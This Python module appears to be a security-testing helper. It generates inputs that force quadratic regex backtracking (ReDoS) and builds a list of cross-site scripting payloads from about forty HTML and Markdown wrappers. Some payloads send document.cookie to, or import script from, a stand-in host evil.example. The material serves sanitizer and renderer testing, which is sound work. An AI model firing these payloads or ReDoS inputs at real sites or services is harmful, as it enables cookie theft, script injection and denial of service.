"""Texts made to keep one regular expression busy: parts of what it finds, repeated.

Each text is a beginning of a match that never ends, again and again, or one long
repetition within it. Whatever backtracks over all of it takes time that grows with the
square of its length.
"""

from __future__ import annotations

import re
from re import _constants as ops  # type: ignore[attr-defined]
from re import _parser  # type: ignore[attr-defined]
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterator

Nodes = list[tuple[Any, Any]]
_CATEGORIES = {
    ops.CATEGORY_DIGIT: "7",
    ops.CATEGORY_WORD: "a",
    ops.CATEGORY_SPACE: " ",
    ops.CATEGORY_NOT_DIGIT: "x",
    ops.CATEGORY_NOT_WORD: "-",
    ops.CATEGORY_NOT_SPACE: "x",
}
_PLAIN = "aA7 -._/:x\n,=!"
_REPEATS = (ops.MAX_REPEAT, ops.MIN_REPEAT, ops.POSSESSIVE_REPEAT)


def hostile_texts(pattern: re.Pattern[str], chars: int) -> Iterator[str]:
    """Yield texts of a length for a pattern, each once."""
    nodes = _flat(list(_parser.parse(pattern.pattern, pattern.flags & ~re.UNICODE)))
    begun = ""
    seen = set()
    for node in nodes:
        pumps = [begun + _sample([node])]
        if node[0] in _REPEATS:
            pumps.append(begun + _sample(list(node[1][2])) * 12)
        for pump in pumps:
            for joint in ("", "\n"):
                if pump.strip():
                    seen.add((pump + joint) * (chars // len(pump + joint) + 1))
        if node[0] in _REPEATS:
            inner = _sample(list(node[1][2])) or "a"
            seen.add(begun + inner * (chars // len(inner)))
        begun += _sample([node])
    yield from (text[:chars] for text in sorted(seen))


def _flat(nodes: Nodes) -> Nodes:
    """Return nodes with groups opened, for their parts are steps of a match, too."""
    flat: Nodes = []
    for op, value in nodes:
        if op is ops.SUBPATTERN:
            flat += _flat(list(value[3]))
        elif op is ops.ATOMIC_GROUP:
            flat += _flat(list(value))
        else:
            flat.append((op, value))
    return flat


def _sample(nodes: Nodes) -> str:
    """Return a text that some nodes match, or nearly."""
    return "".join(_sample_one(op, value) for op, value in nodes)


def _sample_one(op: Any, value: Any) -> str:
    """Return a text that one node matches, or nearly."""
    if op is ops.LITERAL:
        return chr(value)
    if op is ops.NOT_LITERAL:
        return next(one for one in _PLAIN if ord(one) != value)
    if op is ops.ANY:
        return "a"
    if op is ops.IN:
        return _one_of(value)
    if op is ops.BRANCH:
        return max((_sample(list(one)) for one in value[1]), key=len)
    if op is ops.SUBPATTERN:
        return _sample(list(value[3]))
    if op is ops.ATOMIC_GROUP:
        return _sample(list(value))
    if op in _REPEATS:
        least, most, inner = value
        return _sample(list(inner)) * max(least, min(int(most), 2))
    return ""


def _one_of(members: Any) -> str:
    """Return a letter of a set."""
    is_negated = members[0][0] is ops.NEGATE
    letters = [one for one in _PLAIN if _is_in(one, members[is_negated:])]
    if is_negated:
        return next((one for one in _PLAIN if one not in letters), "a")
    if letters:
        return letters[0]
    op, value = members[0]
    return chr(value if op is ops.LITERAL else value[0])


def _is_in(letter: str, members: Any) -> bool:
    """Whether a set has a letter."""
    for op, value in members:
        if op is ops.LITERAL and ord(letter) == value:
            return True
        if op is ops.RANGE and value[0] <= ord(letter) <= value[1]:
            return True
        if op is ops.CATEGORY and _CATEGORIES.get(value) == letter:
            return True
    return False


def _xss_texts() -> list[str]:
    """Return what a careless page would run, load or follow."""
    runs = (
        *("alert(1)", "fetch('//evil.example/'+document.cookie)", "top.location='//x'"),
        *("parent.postMessage(1,'*')", "import('//evil.example/x.js')"),
    )
    wraps = (
        "<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "</textarea><script>{}</script>",
        "</title><script>{}</script>", '"><script>{}</script>', "'><script>{}</script>",
        "<img src=x onerror=\"{}\">", "<svg onload=\"{}\">", "<svg><script>{}</script>",
        "<body onload=\"{}\">", "<details open ontoggle=\"{}\">",
        "<input autofocus onfocus=\"{}\">", "<video src onerror=\"{}\">",
        "<math><mi xlink:href=\"javascript:{}\">x</mi></math>",
        "<iframe srcdoc=\"<script>{}</script>\"></iframe>",
        "<iframe src=\"javascript:{}\"></iframe>", "<object data=\"javascript:{}\">",
        "<embed src=\"javascript:{}\">", "<a href=\"javascript:{}\">x</a>",
        "[x](javascript:{})", "[x](JaVaScRiPt:{})", "[x](&#106;avascript:{})",
        "[x](java\tscript:{})", "[x](data:text/html,<script>{}</script>)",
        "[x](vbscript:{})", "![x](javascript:{})", "![x\" onerror=\"{}](https://a/b)",
        "[x](https://a/b \"\\\" onclick=\\\"{}\")", "<javascript:{}>",
        "[r]\n\n[r]: javascript:{}", "```\"><script>{}</script>\nx\n```",
        "```html onload={}\nx\n```", "`<script>{}</script>`", "# <script>{}</script>",
        "| a |\n| - |\n| <script>{}</script> |", "> <script>{}</script>",
        "<!--><script>{}</script>-->", "<style>@import '//evil.example/{}'</style>",
        "<base href=\"//evil.example/\">{}",
        "<form action=\"//evil.example\">{}</form>",
    )  # fmt: skip
    return [wrap.format(run) for run in runs for wrap in wraps]


XSS_TEXTS = _xss_texts()
